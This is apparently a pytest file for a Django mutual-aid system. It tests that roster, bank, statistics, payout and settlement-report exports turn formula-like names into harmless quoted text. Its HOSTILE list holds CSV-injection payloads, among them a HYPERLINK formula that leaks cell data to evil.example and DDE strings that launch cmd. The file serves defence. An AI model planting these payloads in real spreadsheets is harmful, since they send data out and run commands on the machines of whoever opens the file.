"""Formula injection, end to end: a unit or a member whose stored name is a formula, and a
bureau settlement or an uploaded file named like one, leave no live formula in any file huzhu
writes for spreadsheets (INTERFACES.md "Exports never carry live formulas").

The names are put straight into the database: the name rules refuse them at the door now, but a
name stored before those rules (or by any other path) must still come out harmless. The writer
defends on its own.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from huzhu.accounts.models import Role
from huzhu.cli import main
from huzhu.members.models import Member, Organisation
from huzhu.protection.payments import payment_run_create
from huzhu.settlement.services import settlements_import
from huzhu.web.models import SettlementJob
from huzhu.web.services import settlement_job_run
from tests.settlement.test_import import enrolled, file, row

__all__ = ["enrolled"]

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A2,"x")'
DDE = "=cmd|' /C calc'!A0"
# Each way a cell can start a formula (or a command) in Excel, LibreOffice or Google Sheets.
HOSTILE = [
    HYPERLINK,
    DDE,
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '＝HYPERLINK("http://evil.example")',
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
]


def rename(org: Organisation, name: str) -> None:
    Organisation.objects.filter(pk=org.pk).update(name=name)


def rename_member(member: Member, name: str) -> None:
    Member.objects.filter(pk=member.pk).update(name=name)


def csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def workbook_cells(data: bytes) -> list[Any]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def assert_no_formula(data: bytes) -> list[Any]:
    cells = workbook_cells(data)
    formulas = [(c.coordinate, c.value) for c in cells if c.data_type == "f"]
    assert formulas == []
    return cells


def text_cell_of(cells: list[Any], value: str) -> Any:
    found = [c for c in cells if c.value == value]
    assert found, f"{value!r} is not in the workbook"
    return found[0]


@pytest.mark.parametrize("name", HOSTILE)
def test_a_unit_renamed_to_a_formula_is_text_in_the_city_roster(
    tree, make_member, city_admin, tmp_path, name
):
    from django.test import Client

    make_member(tree.u1, name="王芳")
    rename(tree.u1, name)
    client = Client()
    client.force_login(city_admin)
    r = client.post("/console/members/export/", {"reason": "年度核对"})
    assert r.status_code == 200
    cells = assert_no_formula(b"".join(r.streaming_content))
    # Excel and openpyxl read a CR in cell text as a line feed (XML line ends).
    cell = text_cell_of(cells, name.replace("\r", "\n"))
    # A string cell marked as typed after an apostrophe: text even when someone edits it.
    assert cell.data_type == "s" and cell.quotePrefix
    out = tmp_path / "roster.csv"
    assert main(["export", "members", "--out", str(out)]) == 0
    header, *rows = csv_rows(out.read_bytes())
    assert dict(zip(header, rows[0], strict=True))["unit_name"] == "'" + name


def test_roster_exports_from_the_command_line_carry_no_formula(tree, make_member, tmp_path):
    rename_member(make_member(tree.u1), HYPERLINK)
    make_member(tree.u2, name="王芳")
    rename(tree.u1, DDE)
    xlsx, csv_file = tmp_path / "roster.xlsx", tmp_path / "roster.csv"
    assert main(["export", "members", "--out", str(xlsx)]) == 0
    assert main(["export", "members", "--out", str(csv_file)]) == 0
    cells = assert_no_formula(xlsx.read_bytes())
    assert text_cell_of(cells, HYPERLINK).data_type == "s"
    assert text_cell_of(cells, DDE).data_type == "s"
    assert text_cell_of(cells, "王芳").quotePrefix is False  # only formula-like text is marked
    header, *rows = csv_rows(csv_file.read_bytes())
    records = [dict(zip(header, r, strict=True)) for r in rows]
    assert (records[0]["name"], records[0]["unit_name"]) == ("'" + HYPERLINK, "'" + DDE)
    assert records[1]["name"] == "王芳"


def test_the_bank_file_writes_a_formula_name_as_text(
    insured, approved_claim, api_as, city_admin, make_staff, tree
):
    approved_claim(insured, "1000.00")
    rename_member(insured, DDE)
    run = payment_run_create(actor=city_admin).run
    checker = api_as(make_staff(Role.CITY_ADMIN, tree.city))
    assert checker.post(f"/payment-runs/{run.reference}/release").status_code == 200
    r = api_as(city_admin).get(f"/payment-runs/{run.reference}/file")
    assert r.status_code == 200
    header, line = csv_rows(r.content)
    assert header == ["card_no", "name", "amount", "reference"]
    assert line[1] == "'" + DDE
    assert line[2] == "1000.00"  # the amount is a number: no prefix


def test_statistics_exports_write_a_formula_unit_name_as_text(insured, api_as, city_admin, tree):
    rename(tree.u1, DDE)
    r = api_as(city_admin).get("/stats/contributions.xlsx?group_by=unit")
    assert r.status_code == 200
    cells = assert_no_formula(r.content)
    assert text_cell_of(cells, DDE).data_type == "s"
    money = [c for c in cells if c.number_format == "#,##0.00"]
    assert money and all(c.data_type == "n" for c in money)  # amounts stay numbers


def test_the_payouts_export_writes_a_formula_settlement_id_as_text(enrolled, tmp_path):
    settlements_import(file(row(DDE, enrolled, "2026-03-01", "12000.00")), file="bureau.csv")
    out = tmp_path / "payouts.csv"
    assert main(["export", "payouts", "--out", str(out)]) == 0
    header, *rows = csv_rows(out.read_bytes())
    assert rows and all(r[0] == "'" + DDE for r in rows)
    amounts = {r[header.index("payable_amount")] for r in rows}
    assert amounts == {"5600.00", "50.00"}  # numbers as they are


def test_the_settlement_report_writes_a_formula_file_name_as_text(
    enrolled, city_admin, settings, tmp_path: Path
):
    from django.test import Client

    settings.MEDIA_ROOT = tmp_path
    client = Client()
    client.force_login(city_admin)
    name = "=cmd|' calc'!A0.csv"
    data = file(row("S1", enrolled, "2026-03-01", "12000.00"))
    client.post("/console/settlements/", {"file": SimpleUploadedFile(name, data)})
    job = settlement_job_run(SettlementJob.objects.get().pk)
    r = client.get(f"/console/settlements/{job.pk}/report.csv")
    assert ["文件", "'" + name] in csv_rows(r.content)
